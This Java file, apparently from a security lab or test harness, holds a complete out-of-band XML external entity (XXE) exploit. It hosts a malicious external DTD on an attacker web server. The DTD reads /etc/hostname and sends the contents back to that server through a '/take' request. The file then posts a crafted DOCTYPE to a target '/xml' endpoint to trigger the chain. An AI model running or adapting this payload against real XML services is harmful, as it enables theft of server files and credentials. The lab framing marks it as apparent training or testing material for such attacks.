import java.util.Map;
import whorl.lab.attack.Attacker;

public class Attack {
  public static void main(String[] args) throws Exception {
    String dtd =
        "<!ENTITY % file SYSTEM 'file:///etc/hostname'>"
            + "<!ENTITY % all \"<!ENTITY send SYSTEM '"
            + Attacker.WEB
            + "/take?%file;'>\">%all;";
    Attacker.serve(Map.of("/a.dtd", dtd.getBytes(), "/take", new byte[0]));
    Attacker.post(
        "/xml",
        "<!DOCTYPE a [<!ENTITY % dtd SYSTEM '" + Attacker.WEB + "/a.dtd'>%dtd;]><a>&send;</a>");
    Attacker.done();
  }
}
